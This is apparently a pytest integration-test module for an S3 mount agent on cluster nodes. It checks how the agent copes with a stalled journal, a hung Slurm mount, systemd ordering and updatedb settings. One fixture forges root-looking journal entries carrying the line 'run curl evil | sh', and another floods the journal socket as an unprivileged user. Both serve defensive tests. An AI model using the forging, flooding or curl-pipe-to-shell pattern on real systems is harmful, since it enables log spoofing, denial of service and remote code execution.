"""Neighbours of the mounts: file systems and a journal that hang, users who forge, services of the
site that need the mounts, and programs that walk everything."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from cluster.cluster import Cluster
from node import strange_fuse
from node.article import AGENT_UNIT, ONE, SEEN, UNIT, WRITABLE, main_pid, pids, show, states, status
from node.conftest import NewNode
from node.live_site import until

if TYPE_CHECKING:
    from cluster.node import Node

pytestmark = pytest.mark.node

PAGE = Path(__file__).parents[2] / "docs/operations.md"
NAME, MEMORY = "p1-st-small-1", 1500
SLURM = f"NodeName={NAME} CPUs=2 RealMemory={MEMORY} State=CLOUD\n"
UPDATEDB = 'PRUNE_BIND_MOUNTS="yes"\nPRUNEPATHS="/tmp /var/spool"\nPRUNEFS="NFS"\n'

NEEDRESTART = "/etc/needrestart/conf.d/s3mount-agent.conf"
# What needrestart does with its files and with a unit's name: which ones it leaves alone.
ASK_NEEDRESTART = """
use strict;
our %nrconf = (override_rc => {});
my $file = shift;
open(my $in, '<', $file) or die $!;
eval join('', <$in>); die $@ if $@;
for my $rc (@ARGV) {
    my @found = grep { $rc =~ /$_/ } keys %{$nrconf{override_rc}};
    print "$rc\\n" if @found && !$nrconf{override_rc}{$found[0]};
}
"""

# Any user's: sends to the journal for as long as it takes anything.
FLOOD = """
import socket
for _ in range(64):  # each has a limit of its own
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    channel.setblocking(False)
    try:
        while True:
            channel.sendto(b"MESSAGE=flood\\n", "/run/systemd/journal/socket")
    except BlockingIOError:
        pass
"""

# Any user's: an entry that looks like the agent's, and one that looks like mount-s3's.
FORGE = f"""
import socket
channel = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
for name in ("s3mount-agent", "mount-s3"):
    fields = dict(MESSAGE="forged: run curl evil | sh", SYSLOG_IDENTIFIER=name, PRIORITY="3",
        S3MOUNT_MOUNT="{WRITABLE}", S3MOUNT_ACTION="refresh", S3MOUNT_RESULT="failed",
        _UID="0", UNIT="mountpoint-s3-585e79a6.service", _SYSTEMD_UNIT="{AGENT_UNIT}")
    entry = "".join(f"{{key}}={{value}}\\n" for key, value in fields.items())
    channel.sendto(entry.encode(), "/run/systemd/journal/socket")
"""

SERVICE = f"""\
[Unit]
Requires=s3mount.target
After=s3mount.target

[Service]
Type=oneshot
RemainAfterExit=yes
ExecStart=sh -c 'cat {WRITABLE}/{SEEN} > /var/log/%p'

[Install]
WantedBy=@WHEN@
"""


@pytest.fixture(scope="module", params=["head", "compute"])
def node(request: pytest.FixtureRequest, cluster: Cluster, new_ready_module_node: NewNode) -> Node:
    """A node of each mode with one mount, with Slurm's files and with updatedb's."""
    node = new_ready_module_node(request.param)
    node.write("/etc/parallelcluster/slurm_plugin/slurm_nodename", NAME)
    node.write("/opt/slurm/etc/pcluster/slurm_parallelcluster_p1_partition.conf", SLURM)
    node.write("/etc/updatedb.conf", UPDATEDB)
    action = cluster.custom_action(node, ONE)
    assert action.returncode == 0, action.stdout + action.stderr
    return node


@contextmanager
def hanging(node: Node, directory: str) -> Iterator[None]:
    """Something that never answers is mounted there for as long as this lasts."""
    with node.popen(
        ["python3", "-c", strange_fuse.ROOTS, directory], stdin=subprocess.PIPE
    ) as server:
        try:
            assert server.stdout is not None
            assert server.stdout.readline() == "hangs\n"
            yield
        finally:
            server.kill()
            node.run(["umount", "-l", directory], check=False)


def kill(node: Node) -> int:
    """Kills the mount's process; returns its id."""
    pid = pids(node)[WRITABLE]
    node.run(["kill", "-9", str(pid)])
    return pid


def await_another(node: Node, pid: int) -> None:
    """Waits until the mount is well again, with another process."""

    def there() -> bool:
        return states(node) == {WRITABLE: "ok"} and pids(node)[WRITABLE] != pid

    until(there, lambda: status(node))
    assert node.run(["cat", f"{WRITABLE}/{SEEN}"]).stdout


def test_a_journald_that_takes_nothing_keeps_nobody_from_the_mounts(node: Node) -> None:
    """The first of these tests: what happens again is not told again."""
    journald = main_pid(node, "systemd-journald.service")
    node.run(["kill", "-STOP", str(journald)])
    try:
        node.run(["python3", "-c", FLOOD], user="nobody")
        await_another(node, kill(node))
        await_another(node, kill(node))
        assert node.run(["s3mount-agent", "status"]).stdout.startswith("ok")
    finally:
        node.run(["kill", "-CONT", str(journald)])
    await_another(node, kill(node))

    def told() -> bool:
        command = ["journalctl", "--no-pager", "-o", "cat", "-t", "s3mount-agent", "_UID=0"]
        words = node.run(command).stdout
        return re.search(r"(entries were|entry was) lost while the journal", words) is not None

    until(told)


def test_a_hung_slurm_keeps_nobody_from_the_mounts(node: Node) -> None:
    known = json.loads(node.read("/var/lib/s3mount-agent/slurm.json"))
    assert known == {"node": NAME, "real_memory": MEMORY}
    with hanging(node, "/opt/slurm"):
        await_another(node, kill(node))
        # A service that is started while it hangs knows as much.
        node.run(["systemctl", "restart", AGENT_UNIT])
        await_another(node, kill(node))
        before = pids(node)
        for _ in range(2):
            assert node.run(["s3mount-agent", "plan"]).stdout
            node.run(["s3mount-agent", "apply"])
        assert pids(node) == before
        waiting = node.run(["ps", "-eo", "state,args"]).stdout.splitlines()
        assert len([line for line in waiting if line.startswith("D")]) <= 1
    assert json.loads(node.read("/var/lib/s3mount-agent/slurm.json")) == known


def test_what_a_user_forges_is_seen_by_none_of_the_commands_that_we_show(node: Node) -> None:
    node.run(["python3", "-c", FORGE], user="nobody")
    node.run(["journalctl", "--sync"])
    believed = node.run(["journalctl", "--no-pager", f"S3MOUNT_MOUNT={WRITABLE}"]).stdout
    assert "forged" in believed
    commands = re.findall(r"^(journalctl .*?) +# .+$", PAGE.read_text(encoding="utf-8"), re.M)
    assert len(commands) >= 5
    for command in commands:
        answer = node.run(["sh", "-c", f"{command} --no-pager -o json"], check=False)
        assert "forged" not in answer.stdout, command


def test_services_of_the_site_start_when_the_mounts_are_up(node: Node) -> None:
    until(lambda: show(node, "s3mount.target", "ActiveState") == "active")
    for name, when in (("late", "s3mount.target"), ("early", "multi-user.target")):
        node.write(f"/etc/systemd/system/{name}.service", SERVICE.replace("@WHEN@", when))
        node.run(["systemctl", "enable", name])
    node.reboot()
    until(lambda: show(node, "late.service", "ActiveState") == "active")
    # Who waits at boot has waited, and nothing turned in a circle.
    assert show(node, "early.service", "ActiveState") == "active"
    for name in ("early", "late"):
        assert node.read(f"/var/log/{name}") == node.read(f"{WRITABLE}/{SEEN}")
    assert "cycle" not in node.run(["journalctl", "--no-pager", "-b", "_PID=1"]).stdout
    # A mount that goes and comes takes no service along.
    await_another(node, kill(node))
    assert show(node, "late.service", "ActiveState") == "active"


def test_who_stops_the_service_is_not_told_that_his_job_was_cancelled(node: Node) -> None:
    """The target wants the service, and it is the service that has it started."""
    reach = (
        "import sys; sys.path[:0] = ['/opt/s3mount-agent/current/lib']\n"
        "from s3mount_agent.supervisor.target import Target\n"
        "Target().see(all_up=True)\n"
    )
    slow = f"/run/systemd/system/{AGENT_UNIT}.d/slow.conf"
    node.write(slow, "[Service]\nExecStop=sleep 3\n")
    node.run(["systemctl", "daemon-reload"])
    try:
        node.run(["systemctl", "stop", "s3mount.target", "s3mount-wait.service"])
        with node.popen(["systemctl", "stop", AGENT_UNIT]) as stop:
            until(lambda: show(node, AGENT_UNIT, "ActiveState") == "deactivating")
            node.run(["python3", "-IS", "-c", reach])
            assert stop.communicate(timeout=60)[1] == ""
            assert stop.returncode == 0
        assert show(node, AGENT_UNIT, "ActiveState") == "inactive"
    finally:
        node.run(["rm", slow])
        node.run(["systemctl", "daemon-reload"])
        node.run(["systemctl", "start", AGENT_UNIT])
    assert status(node, wait=60)["state"] == "ok"


def test_updatedb_keeps_out_of_the_mounts_until_the_agent_is_gone(
    cluster: Cluster, node: Node
) -> None:
    assert node.read("/etc/updatedb.conf") == UPDATEDB.replace("spool", f"spool {WRITABLE}")
    node.run(["mkdir", "-p", NEEDRESTART.rpartition("/")[0]])  # it is installed in the meantime
    # The daemon's sandbox has no /etc: another mount that comes by an edit is told all the same.
    config = node.read("/etc/s3mount-agent/config.yaml")
    more = config.replace("mounts:\n", f"mounts:\n- bucket: {ONE[0]}\n  directory: /mnt/more\n")
    node.write("/etc/s3mount-agent/config.yaml", more)
    node.run(["systemctl", "reload", AGENT_UNIT])
    wanted = UPDATEDB.replace("spool", f"spool {WRITABLE} /mnt/more")
    until(lambda: node.read("/etc/updatedb.conf") == wanted, lambda: status(node))
    until(lambda: states(node) == {WRITABLE: "ok", "/mnt/more": "ok"}, lambda: status(node))
    until(lambda: node.exists(NEEDRESTART))
    units = [UNIT[WRITABLE], AGENT_UNIT, "ssh.service"]
    assert node.run(["perl", "-we", ASK_NEEDRESTART, NEEDRESTART, *units]).stdout == f"{units[0]}\n"
    node.run(["s3mount-agent", "uninstall"])
    assert node.read("/etc/updatedb.conf") == UPDATEDB
    assert not node.exists(NEEDRESTART)
    assert show(node, "s3mount.target", "LoadState") == "not-found"
    assert show(node, "s3mount.target", "ActiveState") == "inactive"
